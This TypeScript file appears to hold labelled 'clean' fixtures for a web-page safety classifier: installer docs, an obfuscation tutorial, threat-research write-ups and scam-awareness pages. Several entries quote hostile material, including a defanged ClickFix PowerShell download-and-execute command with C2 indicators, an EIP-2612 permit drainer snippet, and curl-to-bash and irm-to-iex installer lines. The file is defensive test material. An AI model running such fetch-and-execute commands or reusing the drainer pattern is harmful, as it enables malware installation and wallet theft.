import type { Entry } from '../entry.js';
import { doc, analytics, beacon, html, js, jsonRoute, footer } from '../parts/zm-kit.js';

// Benign: docs and blogs with scary code, help articles, security write-ups quoting attack strings.

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const blogCss = `header{padding:16px 40px;border-bottom:1px solid #eee}article{max-width:760px;margin:30px auto;padding:0 20px;font-size:17px}pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;font-size:13px}code{font-family:Menlo,Consolas,monospace}.copy{float:right;font-size:12px}`;

export const entries: Entry[] = [
  {
  id: 'zm-clean-docs-curl-bash-installer',
  label: 'clean',
  kind: 'dev-docs',
  url: 'https://rustleaf.io/getting-started',
  body: doc({
    title: 'Getting started | Rustleaf – a static site generator',
    css: blogCss,
    body: `<header><b>rustleaf</b> — Getting started</header><article><h1>Install</h1><h3>macOS / Linux</h3><pre><code id="c1">/bin/bash -c "$(curl -fsSL https://rustleaf.io/install.sh)"</code></pre><button id="b1">Copy</button>
<h3>Windows</h3><pre><code id="c2">powershell -ExecutionPolicy ByPass -c "irm https://rustleaf.io/install.ps1 | iex"</code></pre><button id="b2">Copy</button>
<p>Both scripts download a signed binary from our GitHub releases and verify its SHA-256. You can also install via <code>cargo install rustleaf</code> or Homebrew.</p></article>
<script>[1,2].forEach(function(i){document.getElementById('b'+i).onclick=function(){navigator.clipboard.writeText(document.getElementById('c'+i).textContent)}})</script>`,
  }),
},
  {
  id: 'zm-clean-blog-js-obfuscation-explained',
  label: 'clean',
  kind: 'dev-blog',
  url: 'https://blog.nullpointer-notes.dev/2026/10/how-js-obfuscators-work',
  body: doc({
    title: 'How JavaScript obfuscators work (and how to undo them) – nullpointer notes',
    css: blogCss,
    body: `<header>nullpointer notes</header><article><h1>How JavaScript obfuscators work (and how to undo them)</h1><p>Most obfuscators combine a handful of tricks. The classic is a string array plus a rotation function:</p>
<pre><code>${esc(`var _0x4f2a=['\\x6c\\x6f\\x67','\\x48\\x65\\x6c\\x6c\\x6f'];
(function(_0x1,_0x2){while(--_0x2){_0x1.push(_0x1.shift())}})(_0x4f2a,0x1a3);
console[_0x4f2a[0]](_0x4f2a[1]);`)}</code></pre>
<p>Another is packing the whole payload into base64 and handing it to <code>eval</code> or <code>document.write</code>:</p>
<pre><code>${esc(`eval(atob("Y29uc29sZS5sb2coJ2hpJyk="));
document.write(unescape('%3Cscript%3E...%3C/script%3E'));
new Function(String.fromCharCode(97,108,101,114,116,40,49,41))();`)}</code></pre>
<p>To undo them, replace <code>eval</code> with <code>console.log</code> and run it in a sandbox, or use an AST tool such as a deobfuscator built on Babel.</p>
<p>Live demo (decodes a harmless string):</p><p id="demo"></p></article>
<script>document.getElementById('demo').textContent=atob('SGVsbG8gZnJvbSBhIGRlY29kZWQgc3RyaW5nIQ==');</script>`,
  }),
},
  {
  id: 'zm-clean-writeup-clickfix-analysis',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://research.halcyon-threatlabs.com/blog/clickfix-fake-captcha-campaign-2026',
  body: doc({
    title: 'Inside a ClickFix campaign: fake CAPTCHAs that make users run PowerShell | Halcyon Threat Labs',
    css: blogCss + `.ioc td{border:1px solid #ddd;padding:4px 8px;font-family:monospace;font-size:13px}`,
    body: `<header>Halcyon Threat Labs · Research</header><article><h1>Inside a ClickFix campaign: fake CAPTCHAs that make users run PowerShell</h1><p>Published November 20, 2026 · 9 min read</p>
<p>The lure shows a reCAPTCHA-style checkbox. Clicking it silently copies a command to the clipboard and tells the victim to press <kbd>Win</kbd>+<kbd>R</kbd>, <kbd>Ctrl</kbd>+<kbd>V</kbd> and <kbd>Enter</kbd>. The clipboard payload we observed:</p>
<pre><code>${esc(`powershell -w h -nop -c "iex(iwr 'hxxps://verify-captcha[.]top/v.ps1' -UseBasicParsing)" # ✅ I am not a robot - reCAPTCHA ID 4821`)}</code></pre>
<p>The page's JavaScript is simple:</p><pre><code>${esc(`navigator.clipboard.writeText(cmd);
document.getElementById('steps').style.display = 'block';`)}</code></pre>
<p>Later variants use <code>mshta hxxps://…/verify.hta</code> or a <code>-EncodedCommand</code> blob. Second-stage payloads included Lumma Stealer and NetSupport RAT.</p>
<h2>IOCs</h2><table class="ioc"><tr><td>verify-captcha[.]top</td><td>lure</td></tr><tr><td>185.220.101[.]44</td><td>C2</td></tr><tr><td>3f1a…c09e</td><td>SHA-256 client32.exe</td></tr></table>
<h2>Mitigation</h2><p>Disable the Run dialog via GPO for standard users, enable PowerShell Constrained Language Mode, and train staff: no legitimate CAPTCHA asks you to paste anything.</p></article>
${footer('Halcyon Security Inc.', ['Research', 'Products', 'Contact'])}`,
  }),
},
  {
  id: 'zm-clean-writeup-drainer-permit-phishing',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://www.chainsentinel.io/blog/permit-signature-drainers-explained',
  body: doc({
    title: 'Permit signature drainers, explained – ChainSentinel',
    css: blogCss,
    body: `<header>ChainSentinel Blog</header><article><h1>Permit signature drainers, explained</h1><p>Drainer kits increasingly avoid on-chain approvals. Instead they ask the wallet to sign an off-chain EIP-2612 permit, which the attacker submits later:</p>
<pre><code>${esc(`await ethereum.request({
  method: 'eth_signTypedData_v4',
  params: [owner, JSON.stringify({ primaryType: 'Permit', message: {
    owner, spender: ATTACKER, value: MAX_UINT256, nonce, deadline } })]
});`)}</code></pre><p>Red flags in the wallet prompt: <b>spender</b> is an unknown EOA, <b>value</b> is 115792089237316195423570985008687907853269984665640564039457584007913129639935, and the site is a "claim" or "airdrop" page you reached from a reply on social media.</p>
<p>Also watch for <code>setApprovalForAll</code> (selector <code>0xa22cb465</code>) on NFT collections, and for "wallet validation" pages that ask for your 12 or 24-word seed phrase — no legitimate service ever needs it.</p>
<p>Revoke stale approvals periodically with a revoke tool.</p></article>`,
  }),
},
  {
  id: 'zm-clean-writeup-techsupport-scam-it',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://www.sicurezzadigitale-oggi.it/2026/11/truffa-finto-supporto-microsoft/',
  body: doc({
    lang: 'it',
    title: 'Truffa del finto supporto tecnico Microsoft: come riconoscerla | Sicurezza Digitale Oggi',
    css: blogCss + `blockquote{border-left:4px solid #c00;background:#fff4f4;padding:10px 16px}`,
    body: `<header>Sicurezza Digitale Oggi</header><article><h1>Truffa del finto supporto tecnico Microsoft: come riconoscerla</h1><p>Negli ultimi giorni molti lettori ci hanno segnalato pagine che bloccano il browser a schermo intero con un allarme sonoro e un messaggio come questo:</p>
<blockquote>** ACCESSO A QUESTO PC BLOCCATO PER MOTIVI DI SICUREZZA ** Il tuo computer è stato infettato da un Trojan Spyware. Chiama il supporto Microsoft: +39 02 9475 xxxx (numero verde)</blockquote>
<p>Si tratta di una truffa. Microsoft non mostra mai numeri di telefono nei messaggi di errore. Per uscire: premi <kbd>Esc</kbd> o tieni premuto <kbd>F11</kbd>, poi chiudi la scheda con <kbd>Ctrl</kbd>+<kbd>W</kbd> o dal Task Manager.</p>
<p>Se hai già chiamato e installato AnyDesk o TeamViewer su richiesta del "tecnico", disinstalla il programma, cambia le password e contatta la tua banca.</p></article>
${footer('Sicurezza Digitale Oggi', ['Chi siamo', 'Privacy', 'Cookie'])}`,
  }),
},
  {
  id: 'zm-clean-blog-password-manager-strong-passwords',
  label: 'clean',
  kind: 'help-article',
  url: 'https://www.lockbox-vault.com/blog/how-to-create-a-strong-password',
  body: doc({
    title: 'How to create a strong password in 2026 | LockBox Vault Blog',
    css: blogCss + `.gen{background:#f0f5ff;padding:16px;border-radius:8px}`,
    body: `<header><b>LockBox Vault</b> · Features · Pricing · Blog · <a href="https://vault.lockbox-vault.com/login">Log in</a></header><article><h1>How to create a strong password in 2026</h1><p>Length beats complexity. A random 4–5 word passphrase is easier to remember and harder to crack than <code>P@ssw0rd!</code>.</p>
<div class="gen"><b>Try our generator:</b> <input id="pw" readonly style="width:70%;padding:8px"> <button id="g">Generate</button> <button id="c">Copy</button></div>
<h2>Never reuse passwords</h2><p>Credential stuffing attacks replay leaked email/password pairs. Turn on 2FA everywhere, preferably with a passkey or hardware key.</p></article>
<script>var w='amber,beacon,cactus,delta,ember,fjord,glacier,harbor,indigo,juniper,kettle,lantern,meadow,nectar,orbit,pepper,quartz,raven,saffron,tundra'.split(',');function g(){var a=new Uint32Array(5);crypto.getRandomValues(a);document.getElementById('pw').value=Array.from(a,function(x){return w[x%w.length]}).join('-')}document.getElementById('g').onclick=g;document.getElementById('c').onclick=function(){navigator.clipboard.writeText(document.getElementById('pw').value)};g();</script>
${analytics('lockbox-blog')}`,
  }),
  routes: beacon('www.lockbox-vault.com'),
},
  {
  id: 'zm-clean-phishing-simulation-landing',
  label: 'clean',
  kind: 'awareness-training',
  url: 'https://training.securehabits-awareness.com/landing/oops?cid=q4-payroll&uid=88321',
  body: doc({
    title: 'Oops! This was a simulated phishing test',
    css: `body{background:#f3f6fa}.c{max-width:640px;margin:60px auto;background:#fff;border-radius:12px;padding:36px}`,
    body: `<div class="c"><h1>🎣 Oops – this was a phishing simulation</h1><p>Don't worry, this was a training exercise run by your IT security team. No data was collected and nothing was harmed.</p><h3>What gave it away?</h3><ul><li>The sender address was <b>payroll@acme-hr-portal.net</b>, not your company domain.</li><li>The email created urgency: "Salary adjustment must be confirmed within 24 hours".</li><li>The link pointed to a look-alike domain.</li></ul><p>Take the 3-minute refresher module below to complete this exercise.</p><button style="background:#1565c0;color:#fff;border:0;padding:12px 24px;border-radius:6px">Start training</button></div>`,
  }),
},
  {
  id: 'zm-clean-ms-support-phone-page',
  label: 'clean',
  kind: 'vendor-support',
  url: 'https://support.microsoft.com/en-ie/contactus?ContactUsExperienceEntryPointAssetId=S.HP.SMC-HOME',
  body: doc({
    title: 'Contact Microsoft Support',
    css: `header{padding:14px 40px;border-bottom:1px solid #eee}.c{max-width:900px;margin:30px auto;padding:0 20px}.w{background:#fff4ce;padding:14px;border-left:4px solid #ffb900}`,
    body: `<header><b>Microsoft</b> | Support</header><div class="c"><h1>Contact Microsoft Support</h1><p>Get help with Microsoft 365, Windows, Surface, Xbox and more. Start with the Get Help app, or sign in to chat with an agent.</p><button style="background:#0067b8;color:#fff;border:0;padding:10px 20px">Contact support</button>
<div class="w" style="margin-top:24px"><b>Protect yourself from tech support scams.</b> Microsoft error and warning messages never include phone numbers. Microsoft will never proactively reach out to you to provide unsolicited PC or technical support. <a href="#">Learn more</a></div>
<h2>Business customers</h2><p>Microsoft 365 admins can open a service request in the admin center. Phone numbers for your country are listed on the Global Customer Service page: United States 1-800-642-7676.</p></div>`,
  }),
},
];
